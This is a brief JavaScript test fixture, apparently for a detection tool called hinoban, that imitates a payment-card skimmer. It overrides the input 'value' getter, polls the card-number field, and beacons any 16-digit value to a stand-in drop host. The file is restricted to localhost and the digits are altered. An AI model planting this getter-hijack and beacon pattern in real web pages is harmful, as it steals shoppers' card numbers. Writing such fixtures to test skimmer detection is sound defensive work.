/* Harmless imitation, for hinoban's tests: the getter of all fields overridden, and the page made to read them. */
if (!location.hostname.endsWith('.localhost')) throw new Error('this file is a test of hinoban and runs nowhere else');
(function () {
	var p = HTMLInputElement.prototype, own = Object.getOwnPropertyDescriptor(p, 'value');
	Object.defineProperty(p, 'value', {set: own.set, configurable: true, enumerable: true, get: function () {
		var v = own.get.call(this);
		if (/^\d{16}$/.test(v) && !this.seen) { this.seen = 1; navigator.sendBeacon('http://drop.localhost:' + location.port + '/c', v.replace(/\d/g, function (d) { return (+d + 3) % 10; })); }
		return v;
	}});
	setInterval(function () { var n = document.querySelector('input[autocomplete=cc-number]'); if (n) n.value; }, 250);
})();
